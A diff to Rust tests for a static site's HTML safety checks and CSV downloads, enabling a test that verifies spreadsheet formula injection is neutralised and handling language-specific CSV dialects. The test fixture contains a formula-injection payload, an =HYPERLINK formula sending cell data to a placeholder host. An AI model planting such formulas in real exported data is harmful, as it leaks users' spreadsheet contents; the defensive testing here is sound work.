@@ -655,6 +655,8 @@ fn assert_page_is_safe(rel: &str, html: &str) {
         let whole = &tag[0];
         let name = tag[1].to_ascii_lowercase();
         match name.as_str() {
+            // The 404 page's own inline script finds the site root (no data in it).
+            "script" if rel.ends_with("404.html") && whole == "<script>" => {}
             // The theme's own scripts: files by relative path, or inline code of a template
             // (no attributes), which no data reaches.
             "script" if whole == "<script>" => {
@@ -1050,7 +1052,6 @@ fn search_index_carries_hostile_names_as_json_data() {
 /// Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a
 /// formula (`=HYPERLINK(...)` phones home): CSV downloads must neutralise such cells.
 #[test]
-#[ignore = "CSV downloads not built yet: un-ignore when the output has .csv files"]
 fn csv_downloads_neutralise_formula_cells() {
     let name = "=HYPERLINK(\"https://contoh.invalid/?d=\"&A1,\"klik\")";
     let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", name);
@@ -1065,16 +1066,29 @@ fn csv_downloads_neutralise_formula_cells() {
     assert!(!downloads.is_empty(), "no CSV downloads in the output");
     let mut seen = false;
     for (rel, bytes) in downloads {
+        // The dialect of the page's language: `;` and a decimal comma for Indonesian (the
+        // root), `,` and a decimal point under en/.
+        let english = rel.starts_with("en/");
         let mut reader = csv::ReaderBuilder::new()
             .has_headers(false)
             .flexible(true)
-            .from_reader(&bytes[..]);
+            .delimiter(if english { b',' } else { b';' })
+            .from_reader(
+                bytes
+                    .strip_prefix("\u{feff}".as_bytes())
+                    .unwrap_or(&bytes[..]),
+            );
         for record in reader.records() {
             for cell in record.unwrap().iter() {
                 seen |= cell.contains("HYPERLINK") || cell.contains("calc");
+                let number = if english {
+                    cell.to_string()
+                } else {
+                    cell.replace(',', ".")
+                };
                 assert!(
                     !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
-                        || cell.parse::<f64>().is_ok(),
+                        || number.parse::<f64>().is_ok(),
                     "{rel}: formula cell {cell:?}"
                 );
             }
